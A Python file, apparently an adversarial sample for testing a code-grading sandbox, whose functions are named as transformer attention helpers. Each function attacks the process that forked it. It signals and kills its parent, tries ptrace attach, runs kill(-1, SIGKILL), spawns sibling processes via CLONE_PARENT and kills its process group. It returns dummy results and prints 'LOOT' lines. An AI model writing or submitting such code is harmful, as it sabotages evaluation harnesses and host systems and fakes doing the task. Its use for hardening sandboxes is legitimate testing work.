"""Goes for the server, which forked it: through getppid, groups, pidfds, tracing in both directions and siblings of its own.

levels: bubblewrap user
checks: test_three_tokens_see_themselves_and_what_came_before test_the_mask_fits_every_length test_true_in_the_mask_means_may_look test_every_head_has_its_piece_of_every_token
seconds: 2
process: not promised: your processes are its processes
outcomes: failed crashed timed_out
"""

import contextlib
import ctypes
import os
import signal
import time

import torch

if os.path.exists("/etc/passwd") and os.getuid() not in (65_534, *range(61_200, 63_200)):
    raise SystemExit("this attack runs inside a sandbox only")

libc = ctypes.CDLL(None, use_errno=True)
CLONE = {"x86_64": 56, "aarch64": 220}[os.uname().machine]
CLONE_PARENT, PR_SET_NAME, PR_SET_PDEATHSIG, PR_SET_CHILD_SUBREAPER, PR_SET_PTRACER = 0x8000, 15, 1, 36, 0x59616D61


def causal_mask(seq, device=None):
    parent = os.getppid()
    libc.prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0)
    libc.prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0)
    libc.prctl(PR_SET_PTRACER, ctypes.c_ulong(-1), 0, 0, 0)
    for number in (signal.SIGCONT, signal.SIGSTOP, signal.SIGKILL):
        if parent:
            with contextlib.suppress(OSError):
                os.kill(parent, number)
                print("LOOT: signalled its parent")
        with contextlib.suppress(OSError):
            signal.pidfd_send_signal(os.pidfd_open(parent), number)
            print("LOOT: signalled its parent through a descriptor")
    for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
        if libc.ptrace(request, parent, 0, 0) == 0:
            print("LOOT: traced its parent")
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
    return torch.zeros(seq, seq, dtype=torch.bool)


def scaled_dot_product_attention(query, *rest):
    signal.signal(signal.SIGUSR1, signal.SIG_IGN)
    libc.ptrace(0, 0, 0, 0)  # PTRACE_TRACEME: each signal from here on is told to whoever forked it, who waits for ends
    for number in (signal.SIGCHLD, signal.SIGUSR1, signal.SIGTRAP, signal.SIGSTOP):
        os.kill(os.getpid(), number)
    return query


def split_heads(x, n_heads):
    def sibling(depth):
        for _ in range(8):
            if libc.syscall(CLONE, CLONE_PARENT | signal.SIGCHLD, 0, 0, 0, 0) == 0:
                libc.prctl(PR_SET_NAME, b"sw-attack-49", 0, 0, 0)
                if depth:
                    sibling(depth - 1)
                time.sleep(60)
                os._exit(0)

    sibling(1)
    os.killpg(0, signal.SIGKILL)
    return x
